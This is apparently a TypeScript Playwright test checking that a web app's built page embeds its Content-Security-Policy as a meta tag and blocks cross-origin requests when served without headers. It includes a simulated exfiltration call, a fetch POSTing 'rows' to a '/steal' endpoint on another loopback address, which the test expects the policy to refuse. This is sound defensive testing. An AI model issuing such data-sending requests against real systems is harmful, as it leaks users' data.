/**
 * The Content-Security-Policy travels with the build: `dist/index.html` carries it as a <meta> tag, so
 * `dist/` hosted on a static server that sends no security headers still keeps every request on the
 * page's own origin. Served here by a bare Node file server (no headers at all) on loopback.
 */
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { CONTENT_SECURITY_POLICY } from '../../src/node/security-headers.ts';
import { launchBrowser } from './browser.ts';

const dist = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../dist');
const TYPES: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.svg': 'image/svg+xml',
  '.wasm': 'application/wasm',
  '.csv': 'text/csv',
  '.webmanifest': 'application/manifest+json',
};

/** A static file server that sends only Content-Type: no CSP, no COOP/COEP. */
function bareServer(): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    const file = path.join(dist, url.pathname === '/' ? 'index.html' : decodeURIComponent(url.pathname));
    if (!file.startsWith(dist) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'Content-Type': TYPES[path.extname(file)] ?? 'application/octet-stream' });
    fs.createReadStream(file).pipe(res);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

describe('CSP in the built page', () => {
  let browser: Browser;
  let server: http.Server;
  beforeAll(async () => {
    browser = await launchBrowser();
    server = await bareServer();
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => server?.close(resolve));
  });

  it('dist/index.html carries the same policy as the preview headers, before any script', () => {
    const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
    expect(meta?.[1].replace(/&#39;/g, "'")).toBe(CONTENT_SECURITY_POLICY);
    expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(html.indexOf('<script'));
  });

  it('blocks a request to another origin when the host sends no headers', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const { port } = server.address() as AddressInfo;
      await page.goto(`http://127.0.0.1:${port}/`);
      await page.getByTestId('drop-zone').waitFor({ timeout: 30_000 });
      const outcome = await page.evaluate(async () => {
        const violation = new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
          setTimeout(() => resolve('no violation'), 5000);
        });
        const request = fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'rows' }).then(
          () => 'sent',
          () => 'refused',
        );
        return { request: await request, directive: await violation };
      });
      expect(outcome).toEqual({ request: 'refused', directive: 'connect-src' });
    } finally {
      await context.close();
    }
  });
});
